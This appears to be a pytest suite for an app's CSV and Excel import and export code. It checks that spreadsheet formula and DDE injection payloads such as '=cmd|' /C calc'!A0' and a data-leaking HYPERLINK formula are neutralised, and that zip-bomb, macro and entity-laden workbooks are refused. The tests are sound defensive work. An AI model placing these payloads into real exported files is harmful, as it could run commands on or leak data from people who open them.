"""What comes in is limited and is what it says; what goes out runs nothing, whoever exports it."""

from __future__ import annotations

import ast
import csv
import io
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app import exchange
from app.exchange import IntakeError, clipboard_line, limited, looked_at, safe_text, write_csv
from app.monitoring.tagfile import read_csv
from app.paths import project_root
from app.reports.excel import export_table, read_book, read_rows, write_book

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://x/?"&A1,"see")',
    '=DDE("cmd";"/C calc";"x")',
]


def _csv_texts(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def _xlsx_texts(path: Path) -> list[str]:
    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.startswith(exchange.FORMULA):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                    continue
                found.append(str(cell.value))
    return found


EXPORTERS: dict[str, tuple[str, Callable[[Path, list[str], list[list[Any]]], None], Callable[[Path], list[str]]]] = {
    "write_csv": (".csv", write_csv, _csv_texts),
    "export_table csv": (".csv", export_table, _csv_texts),
    "export_table xlsx": (".xlsx", export_table, _xlsx_texts),
    "write_book": (".xlsx", lambda path, head, rows: write_book(path, [("a", head, rows)]), _xlsx_texts),
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", EXPORTERS)
def test_no_exporter_lets_a_formula_out(tmp_path: Path, name: str, attack: str) -> None:
    suffix, export, texts = EXPORTERS[name]
    path = tmp_path / f"out{suffix}"
    export(path, ["位号", attack], [["TK-101", attack], [attack, 1.5]])
    written = texts(path)
    assert "TK-101" in written
    assert not [cell for cell in written if cell.startswith(exchange.FORMULA)]


@pytest.mark.parametrize("blank", [" ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff"])
def test_blanks_before_a_formula_hide_it_from_nobody(blank: str) -> None:
    assert safe_text(f"{blank}=1+1") == f"'{blank}=1+1"
    assert safe_text(f"{blank}1+1") == f"{blank}1+1"


@pytest.mark.parametrize("attack", ATTACKS)
def test_clipboard_lets_no_formula_out(attack: str) -> None:
    cells = clipboard_line(["TK-101", attack, "-5.25", "+1,000"]).split("\t")
    assert (cells[0], cells[2:]) == ("TK-101", ["-5.25", "+1,000"])
    assert not cells[1].startswith(exchange.FORMULA)


def test_program_that_splits_at_another_separator_makes_no_formula_of_it(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", ["x"], [["a;=1+1"], ["b\t=1+1"], ["c|=1+1"]])
    for line in (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()[1:]:
        assert line.startswith('"')
        assert line.endswith('"')


@pytest.mark.parametrize("folder", ["app", "ui"])
def test_nobody_else_writes_tables(folder: str) -> None:
    """A new exporter must go through these, or this test."""
    allowed = {"app/exchange.py", "app/reports/excel.py"}
    writers = {"writer", "DictWriter", "Workbook", "to_csv", "to_excel"}
    found = set()
    for path in (project_root() / folder).rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            name = getattr(getattr(node, "func", None), "attr", getattr(getattr(node, "func", None), "id", ""))
            if isinstance(node, ast.Call) and name in writers:
                found.add(path.relative_to(project_root()).as_posix())
    assert found <= allowed


@given(st.lists(st.one_of(st.none(), st.integers(), st.floats(), st.text(), st.booleans()), min_size=1, max_size=5))
def test_any_row_comes_back_from_csv_with_the_same_cells(row: list[Any]) -> None:
    line = ",".join(map(exchange._cell, row)) + "\r\n"
    back = next(csv.reader(io.StringIO(line, newline="")), [])
    assert len(back) == len(row) or (len(row) == 1 and not back)
    for cell, value in zip(back, row, strict=False):
        assert not (isinstance(value, str) and cell.startswith(exchange.FORMULA))
        if isinstance(value, str):
            assert cell == safe_text(value)


# what comes in


def book(path: Path, changes: Callable[[zipfile.ZipFile], None] = lambda _: None, drop: str = "") -> Path:
    """A real workbook, with parts dropped or added."""
    export_table(path.with_name("good.xlsx"), ["a"], [["x"]])
    with zipfile.ZipFile(path.with_name("good.xlsx")) as good, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for entry in good.infolist():
            if entry.filename != drop:
                made.writestr(entry.filename, good.read(entry))
        changes(made)
    return path


@pytest.mark.parametrize(
    ("changes", "drop", "code"),
    [
        (lambda z: z.writestr("xl/worksheets/sheet9.xml", b"\0" * 40_000_000), "", "bomb"),
        (lambda z: [z.writestr(f"xl/media/{n}", b"") for n in range(2_100)], "", "bomb"),
        (lambda z: z.writestr("xl/vbaProject.bin", b"macro"), "", "macros"),
        (lambda z: z.writestr("xl/evil.xml", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>]><l/>"), "", "bomb"),
        (lambda z: None, "xl/workbook.xml", "wrong_type"),
    ],
)
def test_workbook_that_is_none_or_means_harm_is_refused(
    tmp_path: Path, changes: Callable[[zipfile.ZipFile], None], drop: str, code: str
) -> None:
    path = book(tmp_path / "in.xlsx", changes, drop)
    for read in (read_rows, read_book):
        with pytest.raises(IntakeError) as caught:
            read(path)
        assert caught.value.code == code


def test_good_workbook_is_taken_in(tmp_path: Path) -> None:
    assert read_rows(book(tmp_path / "in.xlsx")) == [["a"], ["x"]]


def test_full_workbook_is_no_bomb(tmp_path: Path) -> None:
    """Twenty thousand equal rows compress well, and are no attack."""
    path = tmp_path / "many.xlsx"
    export_table(path, ["位号", "值", "单位"], [["GD-07", 1.5, "%LEL"]] * 20_000)
    assert len(read_rows(path)) == 20_001


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7", b"MZ\x90", b"\x7fELF", b"\xd0\xcf\x11\xe0", b"\x89PNG", b"PK\x03\x04", b"a,b\n\0,1\n"]
)
def test_text_that_is_none_is_refused_whatever_its_ending(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    with pytest.raises(IntakeError) as caught:
        read_csv(path)
    assert caught.value.code == "wrong_type"


def test_workbook_called_csv_and_csv_called_workbook_are_refused(tmp_path: Path) -> None:
    export_table(tmp_path / "a.xlsx", ["a"], [["x"]])
    (tmp_path / "a.xlsx").rename(tmp_path / "a.csv")
    (tmp_path / "b.xlsx").write_text("a,b\n", encoding="utf-8")
    with pytest.raises(IntakeError, match="no text"):
        read_csv(tmp_path / "a.csv")
    with pytest.raises(IntakeError, match="no Excel workbook"):
        read_rows(tmp_path / "b.xlsx")


def test_too_big_a_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as file:
        file.truncate(exchange.MAX_BYTES + 1)  # takes no room on the disk
    with pytest.raises(IntakeError) as caught:
        read_csv(path)
    assert caught.value.code == "too_big"
    with pytest.raises(IntakeError):
        looked_at(path, "xlsx")


def test_too_many_rows_or_cells_are_refused() -> None:
    with pytest.raises(IntakeError, match="more than 3 rows"):
        limited(([n] for n in range(9)), "f", most=3)
    with pytest.raises(IntakeError, match="cells"):
        limited(([0] * 100_000 for _ in range(100)), "f")
    assert limited(iter([(1, 2)]), "f") == [[1, 2]]


@given(st.binary(max_size=400))
def test_any_bytes_are_taken_or_refused_and_never_crash(content: bytes) -> None:
    refused = set()
    with tempfile.TemporaryDirectory() as name:
        for suffix, read in ((".csv", read_csv), (".xlsx", read_rows)):
            path = Path(name) / f"in{suffix}"
            path.write_bytes(content)
            try:
                assert isinstance(read(path), list)
            except IntakeError as error:
                refused.add(error.code)
    assert refused <= {"wrong_type", "too_many"}
